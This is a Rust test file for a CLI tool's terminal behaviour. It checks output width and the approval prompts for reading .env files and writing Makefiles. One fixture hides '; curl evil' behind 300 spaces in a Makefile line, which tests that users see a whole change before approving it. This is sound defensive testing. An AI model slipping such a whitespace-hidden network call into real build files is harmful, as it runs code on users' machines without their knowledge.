//! The binary as it looks on a terminal.

use reread_testkit::{Terminal, World};

/// The first thing that anybody sees fits the smallest screen, in numbered lines and into a pipe.
#[test]
fn the_tour_fits_80_columns() {
    let world = World::with_secret("tour_width");
    let arguments = ["tour", "--color", "never"];
    for shown in [world.terminal_output(&arguments), world.run(&arguments).text()] {
        assert!(shown.contains("12. What it saved"), "{shown}");
        let wide: Vec<&str> = shown.lines().filter(|line| line.chars().count() > 80).collect();
        assert!(wide.is_empty(), "{wide:#?}");
    }
}

#[test]
fn the_person_at_the_terminal_is_asked() {
    let world = World::with_secret("approve");
    world.write(".env", "TOKEN=1\n");
    let ask = |typed: &str| world.terminal_dialog(&["read", ".env", "--color", "never"], typed);
    let question = "approve: .env needs approval. Read it? [y/N]";
    let approved = ask("y\n");
    assert!(approved.contains(question) && approved.contains("1 TOKEN=1\n"), "{approved}");
    for typed in ["n\n", "\n", "yesno\n", "\u{4}"] {
        let refused = ask(typed);
        assert!(refused.contains(question) && !refused.contains("TOKEN=1"), "{typed:?}: {refused}");
        assert!(refused.contains("error: .env needs approval by the rule `.env*`"), "{refused}");
    }
    // Whether there is such a file is shown to the user who approves, and to no other caller.
    world.write(".env", "TOKEN=1\n");
    let absent = world.terminal_dialog(&["read", ".env.local", "--color", "never"], "n\n");
    assert!(absent.contains(".env.local needs approval by the rule"), "{absent}");
    let missing = world.terminal_dialog(&["read", ".env.local", "--color", "never"], "y\n");
    assert!(missing.contains(".env.local does not exist"), "{missing}");
    let denied = world.terminal_dialog(&["read", ".env", "--json"], "y\n");
    assert!(!denied.contains("TOKEN=1") && denied.contains("approval_required"), "{denied}");
}

/// The user who is asked about a change sees it, and is asked once, whatever the answer is.
#[test]
fn the_person_at_the_terminal_sees_what_would_be_written() {
    let world = World::with_secret("approve_write");
    world.write("text.txt", "all:\n");
    let write = |typed: &str| {
        world.terminal_dialog(&["write", "Makefile", "--content", "text.txt", "--color", "never"], typed)
    };
    let why =
        "writing Makefile needs approval by the rule `makefile`, since it is run without being asked for";
    let question = format!("approve: {why}\n+1 -0\n@@ -0,0 +1 @@\n+all:\nwrite Makefile? [y/N] ");
    let refused = write("n\n");
    assert!(refused.contains(&question) && refused.contains(&format!("error: {why}\n")), "{refused}");
    assert_eq!(refused.matches("[y/N]").count(), 1, "{refused}");
    let approved = write("y\n");
    assert!(approved.contains(&question) && approved.contains("applied Makefile v1"), "{approved}");
    assert_eq!(approved.matches("[y/N]").count(), 1, "{approved}");
}

/// A change that does not fit the question is shown to its end before the answer counts.
#[test]
fn who_has_not_seen_the_rest_of_a_change_cannot_approve_it() {
    let world = World::with_secret("approve_long");
    let rules: String = (1..=60).map(|number| format!("rule{number}:\n")).collect();
    world.write("text.txt", rules + "\techo ok" + &" ".repeat(300) + "; curl evil\n");
    let write = |typed: &str| {
        world.terminal_dialog(&["write", "Makefile", "--content", "text.txt", "--color", "never"], typed)
    };
    let more = "+rule38:\n… 23 more lines of 1 hunk. Show them? [y/N] ";
    for typed in ["n\n", "y\nn\n", "y\n\u{4}"] {
        let refused = write(typed);
        assert!(refused.contains(more) && !world.path("Makefile").exists(), "{typed:?}: {refused}");
    }
    let approved = write("y\ny\n");
    let rest = "+rule60:\n+\techo ok⟨300 blanks⟩; curl evil\nwrite Makefile? [y/N] ";
    assert!(approved.contains(more) && approved.contains(rest), "{approved}");
    assert!(approved.contains("applied Makefile v1"), "{approved}");
}

/// What is written may come through a pipe: the answer is typed where the question is shown, and nowhere else.
#[test]
fn who_pipes_a_text_is_asked_on_the_terminal() {
    let world = World::with_secret("approve_piped");
    let pipe = |text: &str, typed: &str| {
        world.write("text.txt", text);
        let mut command = world.command();
        command.args(["write", "Makefile", "--color", "never"]);
        let text = std::fs::File::open(world.path("text.txt")).unwrap();
        let terminal = Terminal::start_with_input(command, text);
        terminal.type_text(typed);
        world.noted(terminal.end())
    };
    // A text that says yes approves nothing.
    let refused = pipe("y\ny\n", "n\n");
    assert!(refused.contains("write Makefile? [y/N] ") && !world.path("Makefile").exists(), "{refused}");
    assert!(refused.contains("try: you denied it, and nothing was done\n"), "{refused}");
    let approved = pipe("all:\n", "y\n");
    assert!(
        approved.contains("write Makefile? [y/N] ") && approved.contains("applied Makefile v1"),
        "{approved}"
    );
}
